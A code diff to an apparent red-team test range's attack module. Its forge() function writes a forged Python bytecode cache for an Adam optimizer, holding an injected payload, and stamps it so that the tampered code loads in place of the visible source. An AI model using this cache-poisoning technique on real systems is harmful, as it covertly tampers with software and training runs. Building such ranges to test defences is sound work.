@@ -11,7 +11,9 @@ Benign twin: a package is installed again over itself. Clean-up: the range puts 
 from __future__ import annotations
 
 import importlib.util
+import marshal
 import struct
+from pathlib import Path
 
 from attacks._shared.deliver import restart
 from attacks._shared.reinstall import REINSTALLED
@@ -23,8 +25,6 @@ from trainwarden.redteam.place import Range
 
 def forge(place: Range) -> None:
     """A cache of another Adam that claims to be made from the source that lies beside it (PEP 552, timestamp form)."""
-    import marshal
-
     source = place.site / ADAM
     text = source.read_bytes()
     other = text.replace(ADAM_ANCHOR, ADAM_PAYLOAD + ADAM_ANCHOR, 1)
@@ -34,7 +34,7 @@ def forge(place: Range) -> None:
     stamp = struct.pack("<II", int(seen.st_mtime) & 0xFFFFFFFF, seen.st_size & 0xFFFFFFFF)
     code = compile(other, str(source), "exec", dont_inherit=True)
     header = importlib.util.MAGIC_NUMBER + struct.pack("<I", 0) + stamp
-    cache = source.parent / "__pycache__" / "adam.cpython-311.pyc"
+    cache = Path(importlib.util.cache_from_source(str(source)))
     place.write(cache, header + marshal.dumps(code))
 
 
